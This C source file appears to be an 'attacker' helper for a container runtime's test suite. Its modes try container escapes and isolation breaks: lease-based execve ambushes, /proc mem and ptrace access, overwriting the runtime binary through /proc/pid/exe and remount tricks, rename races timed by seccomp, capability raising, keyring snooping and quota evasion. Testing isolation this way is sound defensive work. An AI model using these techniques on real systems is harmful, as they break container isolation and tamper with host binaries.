/* What an attacker does, inside a container or beside one. Each try prints a line: its name, and "done" or why not. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* What <sys/mount.h> has, which does not go together with <linux/mount.h> everywhere. */
extern int mount(const char *, const char *, const char *, unsigned long, const void *);

static _Noreturn void die(const char *what)
{
	perror(what);
	exit(2);
}

/* Says how a try ended; returns what it got. */
static int tried(const char *what, long result)
{
	printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
	fflush(stdout);
	return (int)result;
}

static void wait_for_end(int pidfd)
{
	struct pollfd ended = { .fd = pidfd, .events = POLLIN };
	while (poll(&ended, 1, 30000) < 0 && errno == EINTR)
		;
}

/* Tries every way into another process. */
static void look_into(pid_t pid)
{
	static const char *const links[] = { "fd/0", "fd/1", "fd/2", "root", "cwd", "exe", "ns/mnt" };
	char path[64];
	for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
		tried(links[i], open(path, O_RDONLY | O_CLOEXEC));
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	tried("mem", open(path, O_RDWR | O_CLOEXEC));
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	tried("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
	tried("ptrace", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
}

/*
 * Lies in wait for a process that is about to execute a program: a lease on its file (fcntl(2), "Leases") holds the
 * process up in execve(2), still with everything that it has open, until the lease is given up.
 */
static int ambush(const char *program)
{
	sigset_t signals;
	sigemptyset(&signals);
	sigaddset(&signals, SIGIO);
	sigprocmask(SIG_BLOCK, &signals, NULL);
	int file = open(program, O_RDONLY | O_CLOEXEC);
	if (file < 0 || fcntl(file, F_SETLEASE, F_WRLCK))
		die(program);
	fputs("waiting\n", stderr);
	struct timespec limit = { .tv_sec = 20 };
	pid_t victim = 0;
	while (!victim) {
		if (sigtimedwait(&signals, NULL, &limit) < 0)
			die("nobody came");
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(processes))) {
			pid_t pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			printf("process\n");
			look_into(pid);
			victim = pid;
		}
		closedir(processes);
		/* Whoever it was is not in here: let it pass. */
		while (!victim && (fcntl(file, F_SETLEASE, F_UNLCK), fcntl(file, F_SETLEASE, F_WRLCK)) && errno == EAGAIN)
			sched_yield();
	}
	/* While it is held up: let go, it may have ended before it is looked for. */
	int process = (int)syscall(SYS_pidfd_open, victim, 0);
	if (process < 0)
		die("pidfd_open");
	fcntl(file, F_SETLEASE, F_UNLCK);
	wait_for_end(process);
	return 0;
}

static int clear_read_only(int directory, const char *path, unsigned flags)
{
	struct mount_attr change = { .attr_clr = MOUNT_ATTR_RDONLY };
	return (int)syscall(SYS_mount_setattr, directory, path, flags, &change, sizeof(change));
}

static int overwrite(const char *path)
{
	int file = open(path, O_WRONLY | O_CLOEXEC);
	if (file < 0)
		return file;
	return (int)write(file, "#!/bin/false\n", 13);
}

/*
 * Keeps hold of the program that a process runs, ends the process, and writes to the program's file. Waits first for
 * the end of stdin, by which it is told that nobody else runs that program any more.
 */
static int steal(pid_t pid)
{
	char path[64];
	while (read(0, path, sizeof(path)) > 0)
		;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0 || pidfd < 0)
		die(path);
	printf("running %s\n", path);
	tried("write-while-it-runs", overwrite(path));
	kill(pid, SIGKILL);
	wait_for_end(pidfd);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	tried("write", overwrite(path));
	tried("remount", mount(NULL, path, NULL, 0x1000 | 0x20 /* MS_BIND | MS_REMOUNT */, NULL));
	tried("attributes", clear_read_only(AT_FDCWD, path, 0));
	tried("bind", mount(path, "/tmp/bound", NULL, 0x1000, NULL));
	int tree = tried("clone", syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE));
	if (tree >= 0)
		tried("clone-attributes", clear_read_only(tree, "", AT_EMPTY_PATH));
	tried("write-at-last", overwrite(path));
	return 0;
}

/* Replaces two names by each other, over and over; what it can't replace just now it tries again. */
static int exchange(const char *one, const char *other, long times)
{
	fputs("racing\n", stderr);
	while (times--)
		syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
	return 0;
}

/* Becomes a program that has every capability inheritable and ambient. */
static void raise_inheritable(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];
	if (syscall(SYS_capget, &header, data))
		die("capget");
	data[0].inheritable = data[0].permitted;
	data[1].inheritable = data[1].permitted;
	if (syscall(SYS_capset, &header, data))
		die("capset");
	for (int capability = 0; capability < 64; capability++)
		prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, capability, 0, 0);
}

/* Joins a session keyring (a new one without a name) and puts a key into it. */
static void hide_key(const char *keyring, const char *key)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, *keyring ? keyring : NULL) < 0)
		die("keyctl");
	if (syscall(SYS_add_key, "user", key, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
		die("add_key");
}

/* Lays out a keyring of this name that is open to everybody, and stays. */
static int plant_keyring(const char *keyring)
{
	long serial = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, keyring);
	if (serial < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, serial, 0x3f3f3f3f))
		die(keyring);
	if (syscall(SYS_add_key, "user", "planted", "secret", 6, serial) < 0)
		die("add_key");
	fputs("planted\n", stderr);
	pause();
	return 0;
}

static int find_key(const char *key)
{
	char payload[64];
	long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", key, 0);
	tried("search", found);
	if (found >= 0)
		tried("read", syscall(SYS_keyctl, KEYCTL_READ, found, payload, sizeof(payload)));
	tried("request", syscall(SYS_request_key, "user", key, NULL, 0));
	return 0;
}

/* Opens a file with the groups of the caller, and without any. */
static int open_without_groups(const char *path)
{
	tried("open", open(path, O_RDONLY | O_CLOEXEC));
	tried("setgroups", setgroups(0, NULL));
	tried("open-without", open(path, O_RDONLY | O_CLOEXEC));
	return 0;
}

/* The calls by which a runtime touches a container's files; a filter hands each to the supervisor before it is done. */
static const int touching[] = {
	SYS_execve, SYS_chdir,	   SYS_fchmodat,   SYS_fchownat,     SYS_linkat,	SYS_mkdirat,
	SYS_mknodat, SYS_mount,	   SYS_move_mount, SYS_newfstatat,   SYS_open_tree,	SYS_openat,
	SYS_openat2, SYS_readlinkat, SYS_renameat2,  SYS_symlinkat,  SYS_unlinkat,	SYS_fspick,
};

enum { TOUCHING = sizeof(touching) / sizeof(*touching) };

static int install_filter(void)
{
	struct sock_filter code[2 * TOUCHING + 2];
	int length = 0;
	code[length++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr));
	for (int i = 0; i < TOUCHING; i++) {
		code[length++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, touching[i], 0, 1);
		code[length++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF);
	}
	code[length++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_fprog program = { .len = (unsigned short)length, .filter = code };
	int listener =
		(int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	if (listener < 0)
		die("seccomp");
	return listener;
}

static void pass(int channel, int descriptor)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS } };
	struct iovec word = { .iov_base = "x", .iov_len = 1 };
	struct msghdr message = { .msg_iov = &word, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control) };
	memcpy(CMSG_DATA(&control.header), &descriptor, sizeof(int));
	if (sendmsg(channel, &message, 0) != 1)
		die("sendmsg");
}

static int take(int channel)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control;
	char letter;
	struct iovec word = { .iov_base = &letter, .iov_len = 1 };
	struct msghdr message = { .msg_iov = &word, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control) };
	if (recvmsg(channel, &message, MSG_CMSG_CLOEXEC) != 1)
		die("recvmsg");
	int descriptor;
	memcpy(&descriptor, CMSG_DATA(&control.header), sizeof(int));
	return descriptor;
}

struct supervised {
	pid_t pid;
	int listener;
};

/* Starts a program that has to wait at each call that touches a file, as do all that it starts. */
static struct supervised start_supervised(char **command)
{
	int channel[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, channel))
		die("socketpair");
	pid_t pid = fork();
	if (pid == 0) {
		pass(channel[1], install_filter());
		execvp(*command, command);
		die(*command);
	}
	close(channel[1]);
	return (struct supervised){ .pid = pid, .listener = take(channel[0]) };
}

/* The next call that waits; 0 when nobody is left who could make one. */
static int next_call(int listener, struct seccomp_notif *call)
{
	struct pollfd waiting = { .fd = listener, .events = POLLIN };
	for (;;) {
		if (poll(&waiting, 1, 30000) <= 0 || waiting.revents & POLLHUP)
			return 0;
		memset(call, 0, sizeof(*call));
		if (!ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, call))
			return 1;
	}
}

static void let_go(int listener, uint64_t call)
{
	struct seccomp_notif_resp answer = { .id = call, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
	ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
}

static int end_of(pid_t pid)
{
	int status;
	if (waitpid(pid, &status, 0) < 0)
		die("waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/*
 * Runs a runtime and replaces two names by each other right before the nth file that its child (the container's process
 * to be) touches, and if asked back again before the next one: a race that is won every time. The number of calls that
 * there were is written to a file.
 */
static int supervise(char **arguments)
{
	const char *one = arguments[0], *other = arguments[1], *count = arguments[4];
	long at = atol(arguments[2]), calls = 0;
	int back = !strcmp(arguments[3], "back"), executed = 0;
	struct supervised runtime = start_supervised(arguments + 5);
	pid_t init = 0;
	struct seccomp_notif call;
	while (next_call(runtime.listener, &call)) {
		if (!init && (pid_t)call.pid != runtime.pid)
			init = (pid_t)call.pid;
		if (!executed && (pid_t)call.pid == init) {
			executed = call.data.nr == SYS_execve;
			calls++;
			if (calls == at || (back && calls == at + 1))
				syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
		}
		let_go(runtime.listener, call.id);
	}
	FILE *file = fopen(count, "w");
	if (!file || fprintf(file, "%ld", calls) < 0 || fclose(file))
		die(count);
	return end_of(runtime.pid);
}

/* The path that a call that waits is about; they all have it as their second argument. */
static void path_of(const struct seccomp_notif *call, char *path, size_t size)
{
	memset(path, 0, size);
	struct iovec here = { .iov_base = path, .iov_len = size - 1 };
	struct iovec there = { .iov_base = (void *)(uintptr_t)call->data.args[1], .iov_len = size - 1 };
	if (process_vm_readv((pid_t)call->pid, &here, 1, &there, 1, 0) < 0)
		*path = 0;
}

/* Runs a runtime, and stops it before it opens a path that ends in `suffix` until something can be read from stdin. */
static int hold(char **arguments)
{
	const char *suffix = arguments[0];
	struct supervised runtime = start_supervised(arguments + 1);
	struct seccomp_notif call;
	while (next_call(runtime.listener, &call)) {
		char path[256];
		path_of(&call, path, sizeof(path));
		size_t length = strlen(path), end = strlen(suffix);
		if (call.data.nr == SYS_openat && length >= end && !strcmp(path + length - end, suffix)) {
			fputs("held\n", stderr);
			struct pollfd word = { .fd = 0, .events = POLLIN };
			poll(&word, 1, 30000);
			suffix = "\n";
		}
		let_go(runtime.listener, call.id);
	}
	return end_of(runtime.pid);
}

/* Takes a directory out of the project whose quota it counts for, so that what is made in it counts for none. */
static int leave_project(const char *path)
{
	struct fsxattr attributes;
	int flags, directory = open(path, O_RDONLY | O_DIRECTORY);
	if (directory < 0 || ioctl(directory, FS_IOC_FSGETXATTR, &attributes) || ioctl(directory, FS_IOC_GETFLAGS, &flags))
		die(path);
	flags &= ~FS_PROJINHERIT_FL;
	tried("flags", ioctl(directory, FS_IOC_SETFLAGS, &flags));
	attributes.fsx_projid = 0;
	attributes.fsx_xflags &= ~FS_XFLAG_PROJINHERIT;
	tried("attributes", ioctl(directory, FS_IOC_FSSETXATTR, &attributes));
	tried("upper half", syscall(SYS_ioctl, directory, FS_IOC_FSSETXATTR | 1UL << 63, &attributes));
	/* file_setattr(2) and its struct file_attr, since Linux 6.17. */
	struct { uint64_t flags; uint32_t extent, extents, project, copied; } fields = { attributes.fsx_xflags, 0, 0, 0, 0 };
	tried("by path", syscall(469, AT_FDCWD, path, &fields, sizeof(fields), 0));
	return 0;
}

int main(int count, char **arguments)
{
	const char *what = count > 1 ? arguments[1] : "";
	if (!strcmp(what, "escaped"))
		return puts("escaped") < 0;
	if (!strcmp(what, "ambush") && count == 3)
		return ambush(arguments[2]);
	if (!strcmp(what, "look-into") && count == 3)
		return look_into(atoi(arguments[2])), 0;
	if (!strcmp(what, "steal") && count == 3)
		return steal(atoi(arguments[2]));
	if (!strcmp(what, "exchange") && count == 5)
		return exchange(arguments[2], arguments[3], atol(arguments[4]));
	if (!strcmp(what, "plant-keyring") && count == 3)
		return plant_keyring(arguments[2]);
	if (!strcmp(what, "open-without-groups") && count == 3)
		return open_without_groups(arguments[2]);
	if (!strcmp(what, "leave-project") && count == 3)
		return leave_project(arguments[2]);
	if (!strcmp(what, "find-key") && count == 3)
		return find_key(arguments[2]);
	if (!strcmp(what, "supervise") && count > 7)
		return supervise(arguments + 2);
	if (!strcmp(what, "hold") && count > 3)
		return hold(arguments + 2);
	char **command = NULL;
	if (!strcmp(what, "inheritable") && count > 2) {
		raise_inheritable();
		command = arguments + 2;
	} else if (!strcmp(what, "hide-key") && count > 4) {
		hide_key(arguments[2], arguments[3]);
		command = arguments + 4;
	}
	if (!command) {
		fprintf(stderr, "attacker: no such attack: %s\n", what);
		return 2;
	}
	execvp(*command, command);
	die(*command);
}
